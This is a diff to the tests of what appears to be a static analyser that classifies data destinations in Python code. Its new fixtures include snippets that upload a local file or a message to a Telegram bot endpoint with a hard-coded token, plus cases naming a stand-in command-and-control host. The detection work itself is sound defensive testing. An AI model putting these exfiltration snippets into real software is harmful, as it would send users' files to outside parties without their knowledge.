@@ -49,6 +49,17 @@ def test_an_sdk_sends_its_callers_token_where_the_caller_says() -> None:
             "dest:fixed_infra:tunnel",
         ),
         ("import requests\n\ndef f(session, url):\n    return session.get(url)\n", "dest:caller"),
+        (  # a URL held in a local, built by an f-string around a token written into the package
+            "import requests\nTOKEN = '1:A'\ndef drop(path):\n"
+            "    url = f'https://api.telegram.org/bot{TOKEN}/sendDocument'\n"
+            "    requests.post(url, files={'document': open(path, 'rb')})\n",
+            "dest:fixed_infra:chat_bot",
+        ),
+        (  # the same at module level
+            "import requests\nTOKEN = '1:A'\nURL = f'https://api.telegram.org/bot{TOKEN}/sendMessage'\n"
+            "def say(text):\n    requests.post(URL, data={'text': text})\n",
+            "dest:fixed_infra:chat_bot",
+        ),
     ],
 )
 def test_destinations(code: str, expected: str) -> None:
@@ -61,6 +72,14 @@ def test_destinations(code: str, expected: str) -> None:
         "def f(config):\n    return config.get('password')\n",  # a dict look-up, not a request
         "import sqlite3\ndb = sqlite3.connect('cache.db')\n",
         "import requests\ndef f():\n    return requests.get('https://github.com/x')\n",
+        (  # a local URL rebound to the caller's before the call
+            "import requests\ndef f(base):\n    url = 'https://a.example-c2.xyz/x'\n    url = base\n"
+            "    return requests.post(url, json={'token': 1})\n"
+        ),
+        (  # a URL fixed in another function is not this one's
+            "import requests\ndef g():\n    url = 'https://a.example-c2.xyz/x'\n    return url\n"
+            "def f():\n    return requests.post(url, json={'token': 1})\n"
+        ),
     ],
 )
 def test_no_false_destination_or_secret_flow(code: str) -> None:
